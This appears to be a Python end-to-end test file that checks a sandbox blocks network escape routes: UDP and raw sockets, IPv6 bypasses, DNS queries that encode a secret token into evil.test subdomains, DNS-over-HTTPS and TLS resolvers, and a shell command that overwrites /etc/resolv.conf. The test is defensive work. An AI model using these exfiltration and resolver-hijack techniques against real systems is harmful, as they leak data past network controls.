"""What else there is in a network: datagrams, other families and protocols, and names as a way out."""

from __future__ import annotations

import secrets
from typing import TYPE_CHECKING

from tests.e2e.legs import (
    EVIL_V4,
    EVIL_V6,
    Leg,
    Probe,
    arrived,
    ask,
    asked,
    astray_inside,
    astray_outside,
    curl,
    look_up,
    needs_sinks,
    run,
    speak,
    tcp,
    udp,
)

if TYPE_CHECKING:
    from tests.e2e.lab import Lab

pytestmark = needs_sinks

NAME_SERVER_V4 = "203.0.113.53"
NAME_SERVER_V6 = "2001:db8::53"


def test_nothing_but_tcp_leaves(lab: Lab) -> None:
    """Datagrams are refused at once, so that a QUIC client falls back; sockets of other kinds lead nowhere. (A30)"""
    everywhere = {
        **{
            f"{host} {port}": Probe(udp(host, port), "unreachable", "sent")
            for host in (EVIL_V4, EVIL_V6, "203.0.113.10")
            for port in (9, 123, 443)
        },
        "MPTCP": Probe(speak("AF_INET", "SOCK_STREAM", 262, EVIL_V4, 22), "reset", "SSH-2.0-laboratory"),
    }
    others = {
        "UDP-Lite": Probe(speak("AF_INET", "SOCK_DGRAM", 136, EVIL_V4, 9), "unreachable"),
        "SCTP": Probe(speak("AF_INET", "SOCK_STREAM", 132, EVIL_V4, 22), "Protocol not supported"),
        "ping": Probe(speak("AF_INET", "SOCK_DGRAM", 1, EVIL_V4, 0), "unreachable"),
        "raw ICMP": Probe(speak("AF_INET", "SOCK_RAW", 1, EVIL_V4, 0), "unreachable"),
        "raw TCP": Probe(speak("AF_INET", "SOCK_RAW", 6, EVIL_V4, 22), "unreachable"),
        "raw v6": Probe(speak("AF_INET6", "SOCK_RAW", 58, EVIL_V6, 0), "unreachable"),
        "HTTP/3 first": Probe(curl("--http3", "https://allowed.test/", bare=True), "hello from allowed.test"),
    }

    assert astray_outside(lab, everywhere) == {}
    assert sum(arrived(lab).values()) == len(everywhere)
    assert astray_inside(lab, everywhere | others) == {}
    assert arrived(lab) == {"allowed.test 443": 2}


def test_ipv6_is_no_way_around(lab: Lab) -> None:
    """The same refusals, at once, for all of its addresses; a name has none. (A31)"""
    address = ("--insecure", f"https://[{EVIL_V6}]/")
    probes = {
        "by name": Probe(curl("-6", "https://evil.test/", bare=True), "no such name", "hello from evil.test"),
        "by address": Probe(curl(*address, bare=True), "cut", "hello from evil.test"),
        "by address and proxy": Probe(curl(*address), "403", "hello from evil.test"),
        "waits for a banner": Probe(tcp(EVIL_V6, 22), "reset", "SSH-2.0-laboratory"),
        "v4 in v6": Probe(tcp(f"::ffff:{EVIL_V4}", 22), "reset", "SSH-2.0-laboratory"),
        "an allowed name, v6 only": Probe(
            curl("-6", "https://allowed.test/", bare=True), "no such name", "hello from allowed.test"
        ),
        "link-local": Probe(tcp("fe80::1%lo", 22), "reset"),
        "device that is not there": Probe(tcp("fe80::1%eth0", 22), "no such name"),
        "multicast": Probe(udp("ff02::1%lo", 9), "Invalid argument"),
        "translated": Probe(tcp("64:ff9b::cb00:710b", 22), "reset"),
    }

    assert astray_outside(lab, probes) == {}
    assert astray_inside(lab, probes) == {}
    assert arrived(lab) == {"allowed.test 443": 1}


def test_a_question_carries_nothing_out(lab: Lab) -> None:
    """Names that are not allowed do not exist, and of no question does anybody outside hear. (A33)"""
    secret = secrets.token_hex(20)
    probes = {
        "by name": Probe(look_up(f"{secret}.x.evil.test"), "no such name", "v4 v6"),
        "to a resolver": Probe(ask(NAME_SERVER_V4, f"{secret}.evil.test"), "NXDOMAIN", "1 answer"),
        "for text": Probe(ask(NAME_SERVER_V6, f"{secret}.evil.test", "TXT"), "NXDOMAIN", "no answer"),
        "in reverse": Probe(ask(NAME_SERVER_V4, "11.113.0.203.in-addr.arpa", "PTR"), "NXDOMAIN", "1 answer"),
        "below an allowed name": Probe(ask(NAME_SERVER_V4, f"{secret}.allowed.test"), "made up", "1 answer"),
        "below it, for text": Probe(ask(NAME_SERVER_V4, f"{secret}.allowed.test", "TXT"), "no answer", "no answer"),
    }
    hundred = {
        f"number {number}": Probe(look_up(f"{number}-{secret}.evil.test"), "no such name") for number in range(100)
    }

    assert astray_outside(lab, probes) == {}
    assert {name for name in asked(lab) if secret in name} == {
        f"{secret}.{parent}" for parent in ("x.evil.test", "evil.test", "allowed.test")
    }
    assert astray_inside(lab, probes | hundred) == {}
    assert asked(lab) <= {"allowed.test"}
    assert arrived(lab) == {"allowed.test 443": 1}


def test_no_other_resolver_answers(lab: Lab) -> None:
    """Whatever resolver is asked is the sandbox's own, none is reached another way, and it stays the one. (A34)"""
    page = "https://doh.evil.test/dns-query"
    change = run("sh", "-c", "echo nameserver 203.0.113.53 >/tmp/r && mv /tmp/r /etc/resolv.conf")
    probes = {
        "UDP": Probe(ask(NAME_SERVER_V4, "evil.test"), "NXDOMAIN", "1 answer"),
        "UDP, v6": Probe(ask(NAME_SERVER_V6, "evil.test"), "NXDOMAIN", "1 answer"),
        "TCP": Probe(ask(NAME_SERVER_V4, "evil.test", over="tcp"), "NXDOMAIN", "1 answer"),
        "TCP, v6": Probe(ask(NAME_SERVER_V6, "evil.test", over="tcp"), "NXDOMAIN", "1 answer"),
        "allowed, UDP": Probe(ask(NAME_SERVER_V4, "allowed.test"), "made up", "1 answer"),
        "allowed, TCP": Probe(ask(NAME_SERVER_V6, "allowed.test", over="tcp"), "made up", "1 answer"),
        "no question": Probe(udp(EVIL_V4, 53), "sent", "sent"),
        "HTTPS": Probe(curl(page), "403", "hello from evil.test"),
        "HTTPS, without": Probe(curl(page, bare=True), "no such name", "hello from evil.test"),
        "TLS": Probe(tcp(NAME_SERVER_V4, 853), "reset"),
        "a line more": Probe(Leg("write", ("/etc/resolv.conf",)), "Read-only file system"),
        "another file": Probe(change, "exit 1"),
        "what stands there": Probe(
            run("cat", "/etc/resolv.conf"), "nameserver 198.18.0.1\noptions timeout:2 attempts:2"
        ),
    }

    assert astray_outside(lab, probes) == {}
    assert arrived(lab)["evil.test 53"] == 1
    assert astray_inside(lab, probes) == {}
    assert asked(lab) <= {"allowed.test"}
    assert arrived(lab) == {"allowed.test 443": 1}
